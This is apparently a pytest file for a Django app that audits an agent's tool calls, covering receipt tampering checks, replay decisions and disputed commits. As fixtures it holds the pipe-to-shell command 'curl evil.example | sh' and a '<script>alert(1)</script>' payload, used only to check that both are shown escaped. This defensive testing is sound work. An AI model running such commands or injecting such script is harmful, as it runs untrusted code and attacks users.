"""A call's page and a run's recovery decisions."""

from __future__ import annotations

import json

import pytest
from django.urls import reverse

from evidence.lib import stats
from evidence.models import Call
from tests.helpers import content, first_call_of, state_badge

pytestmark = pytest.mark.django_db


def test_call_page_spells_out_the_identity_check(logged_in, demo):
    call = first_call_of("tampered-receipt")
    page = content(logged_in.get(reverse("call", args=["tampered-receipt", call.call_id])))
    assert call.declared_call_id in page and call.recomputed_call_id in page
    assert "mismatch: the receipt was altered" in page
    assert "curl evil.example | sh" in page  # args shown, escaped
    assert 'badge-warn">confirm' in page, "a tampered receipt is never reused"


def test_call_page_escapes_hostile_args(logged_in, demo):
    call = first_call_of("clean-run")
    Call.objects.filter(pk=call.pk).update(args={"x": "<script>alert(1)</script>"})
    page = content(logged_in.get(reverse("call", args=["clean-run", call.call_id])))
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_replay_page_groups_decisions_with_counts(logged_in, demo):
    page = content(logged_in.get("/runs/send-message-killed/replay/"))
    assert "all 1" in page and "a person must decide" in page
    document = json.loads(content(logged_in.get("/runs/send-message-killed/replay/?format=json")))
    assert [item["decision"] for item in document["items"]] == ["confirm"]


def test_replay_puts_a_persons_decisions_first_and_filters(logged_in, demo):
    last = Call.objects.filter(run__run_id="clean-run").order_by("-call_id").first()
    assert last is not None
    Call.objects.filter(pk=last.pk).update(decision="confirm", decision_reason="made up for the test")
    stats.refresh_run_summary(last.run)  # what an import or a settlement does after changing a call
    page = content(logged_in.get("/runs/clean-run/replay/"))
    assert page.index('badge-warn">confirm') < page.index('badge-ok">reuse')
    only = content(logged_in.get("/runs/clean-run/replay/?decision=reuse"))
    assert "made up for the test" not in only and "all 3" in only


def test_the_recovery_page_shows_every_pending_problem_reservations_included(logged_in, demo):
    page = content(logged_in.get("/runs/stale-reservation/replay/"))
    pending = page[page.index("Pending problems of this run") : page.index("Every call")]
    assert "stale reservation" in pending and "Look at the reservation" in pending
    assert "Nothing in this run needs a person" in content(logged_in.get("/runs/clean-run/replay/"))


def test_a_commit_the_writer_refused_to_reuse_shows_as_disputed_and_can_be_settled(client, django_user_model, run_dir):
    from evidence.ingest import importer
    from tests.helpers import join
    from tests.writer import MESSAGE, cli_call, output

    call_id = output(cli_call(run_dir, "send_message", MESSAGE))["call_id"]
    (run_dir / "outbox.jsonl").write_bytes(b"")  # the message's line is gone from its target
    assert cli_call(run_dir, "send_message", MESSAGE).returncode == 4
    importer.run_import(path=run_dir)
    call = Call.objects.get(call_id=call_id)
    assert (call.verification, call.shown_status, call.decision) == ("disputed", "disputed", "confirm")

    client.force_login(join(django_user_model.objects.create_user("carol", password="a-long-password-1"), "confirmer"))
    page = content(client.get(reverse("call", args=[run_dir.name, call_id])))
    assert "disputed: its target did not show this result" in page and "effect_not_shown" in page
    assert 'name="resolution"' in page, "a person may settle it"
    lead = page[page.index('class="lead state-line"') :]
    assert lead.startswith(
        f'class="lead state-line"><span data-value="disputed" data-state="disputed" {state_badge("disputed")}'
    ), "never shown as a plain commit"
    assert "Nothing points to an intruder" in lead[:600], "disputed is not tampered: its identity check passed"
    assert "Its receipt says committed." in lead[:1500] and "proves nothing" not in lead[:1500]
    run_page = content(client.get(reverse("run", args=[run_dir.name])))
    assert state_badge("disputed") in run_page
